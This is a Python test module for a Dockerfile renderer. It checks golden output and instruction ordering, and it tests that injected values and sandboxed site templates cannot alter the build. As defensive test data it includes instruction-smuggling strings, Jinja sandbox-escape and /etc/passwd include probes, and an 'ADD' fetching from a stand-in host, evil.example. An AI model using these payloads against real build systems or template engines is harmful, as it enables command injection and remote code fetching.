"""The Dockerfile: as it is for the examples, and closed to whatever a spec's values say."""

from __future__ import annotations

import json
import re
import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from twinbuild.codec.lock import decode_lock
from twinbuild.codec.spec import SourceText, load_spec
from twinbuild.errors import SpecError
from twinbuild.model.digest import Digest
from twinbuild.model.plan import (
    AccountRecipe,
    AddedPackagesRecipe,
    BaseInput,
    Compressor,
    DebInput,
    Derivation,
    User,
    WheelsRecipe,
)
from twinbuild.pipeline.plan.plan import Tooling, make_plan
from twinbuild.render.dockerfile import SiteTemplate, passed_values, render_dockerfile

ROOT = Path(__file__).resolve().parents[3]
GOLDEN = Path(__file__).parent / "golden"
TEMPLATE = (ROOT / "templates" / "Dockerfile.j2").read_text("utf-8")


def _derivations(example: str) -> tuple[Derivation, ...]:
    directory = ROOT / "examples" / example
    spec = load_spec((SourceText(name="release.yaml", content=(directory / "release.yaml").read_bytes()),)).spec
    tooling = Tooling(
        compressor=lambda kind: Compressor(kind=kind, implementation="none/1", level=0, mode=""),
        effects=lambda _: Digest.of(b"effects"),
    )
    lock = decode_lock((directory / "release.lock").read_bytes())
    return make_plan(spec, lock, tooling, epoch=1_793_491_200, documents=lambda _: ()).derivations


def _derivation(example: str) -> Derivation:
    return _derivations(example)[0]


def _rendered(derivation: Derivation) -> str:
    return render_dockerfile(TEMPLATE, derivation, base_diff_id="sha256:" + "0" * 64, pip="26.3")


def golden(example: str) -> dict[str, str]:
    """The Dockerfile of each image of an example, by the name of its golden file."""
    found = _derivations(example)
    names = [example if len(found) == 1 else f"{example}-{each.variant}" for each in found]
    return {f"{name}.Dockerfile": _rendered(each) for name, each in zip(names, found, strict=True)}


EXAMPLES = sorted(path.parent.name for path in (ROOT / "examples").glob("*/release.lock"))


@pytest.mark.parametrize("example", EXAMPLES)
def test_golden(example: str) -> None:
    """As the golden files say; `python tools/golden_dockerfiles.py` writes them anew."""
    for name, text in golden(example).items():
        assert text == (GOLDEN / name).read_text("utf-8"), name


def test_on_an_image() -> None:
    """The base by digest, steps as root whatever user the base has, and the account before all else."""
    digest = Digest.of(b"manifest")
    base = BaseInput(
        reference="registry.example/python:3.11",
        manifest=digest,
        config=digest,
        layers=(),
        history=(),
        author="",
    )
    derivation = _derivation("fraud-scorer")
    user = User(name="app", uid=1, gid=1, home="/home/app")
    account = replace(derivation.layers[0], recipe=AccountRecipe(base=(), user=user, places=(), version="1"))
    derivation = replace(derivation, layers=(account, *derivation.layers[1:]), base=base)
    instructions = _instructions(_rendered(derivation))
    assert instructions[:6] == [
        ("FROM", f"registry.example/python:3.11@{digest} AS base"),
        ("FROM", "base"),
        ("ARG", "SOURCE_DATE_EPOCH"),
        ("USER", "0:0"),
        ("WORKDIR", "/"),  # a base's own may be nowhere, and a step would make it
        ("ADD", '["account.tar", "/"]'),
    ]
    added = AddedPackagesRecipe(
        base=(), debs=(), effects=digest, user=user, places=(), scripts=(), runner="", version="1"
    )
    package = DebInput(name="x", version="1", architecture="all", sha256=digest, size=1, depends=(), pre_depends=())
    ground = replace(account, recipe=replace(added, debs=(package,)))
    with_packages = _rendered(replace(derivation, layers=(ground, *derivation.layers[1:])))
    assert "# 1 Debian packages of the lock, with the effects of their scripts, added to what" in with_packages
    assert _instructions(with_packages) == instructions
    assert [rest for word, rest in instructions if word == "USER"][-1] == derivation.config.user
    ports = replace(derivation.config, exposed_ports=("53/udp", "9"))
    assert [rest for word, rest in _instructions(_rendered(replace(derivation, config=ports))) if word == "EXPOSE"] == [
        "53/udp"
    ]
    layout = _rendered(replace(derivation, base=replace(base, reference="oci-layout:some/dir")))
    assert f"--build-context base=oci-layout://some/dir@{digest}\n" in layout
    assert _instructions(layout)[0] == ("FROM", f"layout.invalid/base@{digest} AS base")


def _instructions(text: str) -> list[tuple[str, str]]:
    """Instruction and rest of each logical line, as a Dockerfile's reader splits them."""
    joined = re.sub(r"\\[ \t]*\n", " ", "\n".join(line for line in text.split("\n") if not line.startswith("#")))
    return [(word, rest) for line in joined.split("\n") if line.strip() for word, _, rest in [line.partition(" ")]]


_VALUES = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30) | st.sampled_from(
    [
        '"\nRUN evil\n"',
        "$PATH",
        "${PATH:-x}",
        "\\",
        'x" USER="0',
        "<<EOF",
        "'",
        "# escape=`",
        "`",
        "a\\\nRUN evil",
        "\u2028RUN evil",
    ]
)


@settings(max_examples=150, deadline=None)
@given(_VALUES, _VALUES, _VALUES, st.lists(_VALUES, min_size=1, max_size=3))
def test_no_value_becomes_an_instruction(value: str, label: str, name: str, command: list[str]) -> None:
    """Whatever they hold, the instructions are the same, and reading them gives the values back."""
    derivation = _derivation("fraud-scorer")
    plain = replace(derivation.config, environment=(("A", "a"),), labels=(("l", "v"),), command=("c",))
    hostile = replace(plain, environment=(("A", value),), labels=((label, value),), command=tuple(command))
    texts = [_rendered(replace(derivation, config=config)) for config in (plain, hostile)]
    texts.append(_rendered(replace(derivation, name=name, version=value, variant=label)))
    words = [[word for word, _ in _instructions(text)] for text in texts]
    fits = "\n" not in value and "\r" not in value
    fits_label = "\n" not in label and "\r" not in label
    expected = [word for word in words[0] if word != "LABEL" or fits_label]
    assert [word for word in words[1] if word != "ARG"] == [word for word in expected if word != "ARG"]
    assert words[1].count("ARG") == words[0].count("ARG") + (0 if fits else 1 + fits_label)
    assert [word for word in words[2] if word not in ("ENV", "LABEL")] == [
        word for word in words[0] if word not in ("ENV", "LABEL")
    ]
    found = dict(_instructions(texts[1]))
    assert json.loads(found["CMD"]) == command
    if fits:
        assert _unquoted(found["ENV"].removeprefix("A=")) == value
    assert all(text.startswith("# Written by twinbuild") for text in texts)


def _unquoted(text: str) -> str:
    """A double-quoted word as BuildKit's lexer reads it; a dollar sign that is not escaped would be a variable."""
    assert text.startswith('"')
    assert text.endswith('"')
    assert not re.search(r"(?<!\\)(?:\\\\)*\$", text)
    return re.sub(r"\\([\\\"$])", r"\1", text[1:-1])


def test_line_breaks_are_arguments() -> None:
    """What a Dockerfile cannot hold is an argument of the build, and said; a name with a line break is left out."""
    derivation = _derivation("fraud-scorer")
    labels = (("description", "two\nlines"), ("again", "two\nlines"), ("a\nname", "x"))
    config = replace(derivation.config, labels=labels)
    text = _rendered(replace(derivation, config=config))
    assert passed_values(config) == (("TWINBUILD_TEXT_1", "two\nlines"),)
    assert [rest for word, rest in _instructions(text) if word == "LABEL"] == [
        '"description"="$TWINBUILD_TEXT_1"',
        '"again"="$TWINBUILD_TEXT_1"',
    ]
    assert "# left out: label a name" in text


def test_byte_code_of_the_application_alone() -> None:
    """A release without wheels has byte code too."""
    derivation = _derivation("fraud-scorer")
    layers = tuple(layer for layer in derivation.layers if not isinstance(layer.recipe, WheelsRecipe))
    assert _rendered(replace(derivation, layers=layers)).count("RUN --mount=type=bind,source=compile.py") == 1


def test_the_command_line_has_a_tag() -> None:
    """A version may have a plus sign, a tag not."""
    text = _rendered(replace(_derivation("fraud-scorer"), version="1.0+cu12"))
    assert "--tag fraud-scorer:1.0_cu12 context" in text


def test_a_directory_with_signs() -> None:
    """WORKDIR is one word that stands for itself."""
    derivation = _derivation("fraud-scorer")
    text = _rendered(replace(derivation, config=replace(derivation.config, working_directory="/a $b \\c 'd'")))
    assert shlex.split(dict(_instructions(text))["WORKDIR"].replace(" ", "\\ ")) == ["/a $b \\c 'd'"]


def test_without_byte_code_and_model() -> None:
    """What a release does not have is not mentioned."""
    derivation = _derivation("fraud-scorer")
    bare = replace(derivation, layers=tuple(layer for layer in derivation.layers if "artifact" not in layer.title))
    assert "model/" not in _rendered(bare)
    assert "# syntax" not in _rendered(derivation)


_EXTENDED = '{% extends "Dockerfile.j2" %}{% block application %}# ours\n{{ super() }}{% endblock %}'


def _site(text: str) -> str:
    site = SiteTemplate(name="site.j2", text=text)
    return render_dockerfile(
        TEMPLATE, _derivation("fraud-scorer"), base_diff_id="sha256:" + "0" * 64, pip="26.3", site=site
    )


def test_a_site_template_extends_ours() -> None:
    """A block is overridden, and what it overrides is still at hand."""
    ours, theirs = _rendered(_derivation("fraud-scorer")), _site(_EXTENDED)
    assert [line for line in theirs.split("\n") if line not in ours.split("\n")] == ["# ours"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("# {{ lipsum() }}", "'lipsum' is undefined"),
        ("# {{ [1, 2] | random }}", "random"),
        ("# {{ quoted }}", "place in memory"),
        ("# {{ ('a'.join) | string }}", "place in memory"),
        ("# {{ 'a' * 10 ** 15 }}", "MemoryError"),
        ("{{ nothing }}", "'nothing' is undefined"),
        ("{% block x %}", "Unexpected end of template"),
        ('{% include "/etc/passwd" %}', "TemplateNotFound"),
        ('{% extends "other.j2" %}', "TemplateNotFound"),
        ("{{ ''.__class__.__mro__ }}", "unsafe"),
        ("{{ environment.append(1) }}", "unsafe"),
        ("{{ 1 / 0 }}", "ZeroDivisionError"),
        ("{% for i in range(10000000) %}x{% endfor %}", "OverflowError"),
        ("{{ 'x' * 2000000 }}", "2000000 characters"),
    ],
)
def test_a_site_template_that_fails(text: str, said: str) -> None:
    """Jinja's sandbox and limits hold, and the template is named."""
    with pytest.raises(SpecError) as caught:
        _site(text)
    (finding,) = caught.value.findings
    assert (finding.code, finding.where.file) == ("TB5230", "site.j2")
    assert said in finding.message


def test_a_site_template_that_would_fetch() -> None:
    """What it adds is looked at as a Dockerfile."""
    with pytest.raises(SpecError, match="TB5231"):
        _site(_EXTENDED.replace("# ours", "ADD https://evil.example/x /"))


def test_blocks_and_values_are_documented() -> None:
    """Who overrides a block finds it in the page, with every value that the template uses."""
    from jinja2 import Environment, meta

    page = (ROOT / "docs" / "dockerfile.md").read_text("utf-8")
    parsed = Environment(autoescape=True).parse(TEMPLATE)
    blocks = set(re.findall(r"{% block (\w+) %}", TEMPLATE))
    assert blocks == set(re.findall(r"^\| `(\w+)` \|", page, re.MULTILINE))
    assert meta.find_undeclared_variables(parsed) <= set(re.findall(r"`(\w+)`", page))
